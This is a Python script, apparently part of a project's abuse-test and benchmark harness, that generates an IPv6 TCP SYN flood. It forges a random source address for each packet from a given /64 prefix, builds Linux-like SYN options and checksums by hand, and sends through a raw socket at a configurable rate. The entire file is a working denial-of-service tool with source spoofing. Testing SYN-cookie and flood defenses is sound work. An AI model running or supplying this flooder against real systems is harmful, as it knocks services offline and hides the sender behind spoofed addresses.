#!/usr/bin/env python3
"""A random-source IPv6 SYN flood (hping3 has no usable IPv6), for the abuse tests and bench:abuse.

usage: synflood6.py DST PORT SECONDS RATE PREFIX

Sends TCP SYNs to [DST]:PORT for SECONDS, RATE per second (0: as fast as it goes), each from a random
address of the /64 PREFIX (e.g. fd00:: : the interface identifier random), a random port and sequence
number, with the options Linux's SYN carries (MSS 1440, SACK-permitted, timestamps, window scale 7), so
that SYN cookies have options to encode. The packets are written whole through a raw IPv6 socket with
IPV6_HDRINCL (the kernel routes them by destination and leaves the forged source alone). Bounded by
SECONDS. Prints one JSON line: {"sent": n, "seconds": s}.
"""
import json
import os
import socket
import struct
import sys
import time

dst, port, seconds, rate, prefix = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
IPV6_HDRINCL = 36
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)

dst_bytes = socket.inet_pton(socket.AF_INET6, dst)
prefix_bytes = socket.inet_pton(socket.AF_INET6, prefix)[:8]
# MSS 1440, SACK-permitted, timestamps (TSval 1, TSecr 0), NOP, window scale 7: Linux's order, 20 bytes.
options = bytes([2, 4, 0x05, 0xA0, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])
tcp_length = 20 + len(options)


def words(b):
    return sum(struct.unpack("!%dH" % (len(b) // 2), b))


# The checksum's constant part: the pseudo-header less the source's interface identifier, and the
# segment less its source port and sequence number (checksum field zero).
fixed = words(prefix_bytes) + words(dst_bytes) + tcp_length + 6
fixed += port + (((tcp_length // 4) << 12) | 0x02) + 64240 + words(options)
header = bytearray(40 + tcp_length)
struct.pack_into("!IHBB", header, 0, 0x60000000, tcp_length, 6, 64)
header[8:16] = prefix_bytes
header[24:40] = dst_bytes
struct.pack_into("!HH", header, 40, 0, port)
struct.pack_into("!IBBH", header, 48, 0, (tcp_length // 4) << 4, 0x02, 64240)
header[60:] = options

sent = 0
started = time.monotonic()
batch = 64
while True:
    elapsed = time.monotonic() - started
    if elapsed >= seconds:
        break
    if rate > 0 and sent > elapsed * rate:
        time.sleep(min(0.01, sent / rate - elapsed))
        continue
    noise = os.urandom(16 * batch)
    for i in range(batch):
        r = noise[16 * i:16 * i + 16]
        iid = r[0:8]
        sport = 1024 + (struct.unpack_from("!H", r, 8)[0] % 64000)
        header[16:24] = iid
        struct.pack_into("!H", header, 40, sport)
        header[44:48] = r[10:14]
        total = fixed + words(iid) + sport + words(r[10:14])
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        struct.pack_into("!H", header, 56, ~total & 0xFFFF)
        try:
            s.sendto(header, (dst, 0))
            sent += 1
        except (BlockingIOError, OSError):
            pass  # a full device queue: the packet is lost, as any flood's
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 2)}), flush=True)
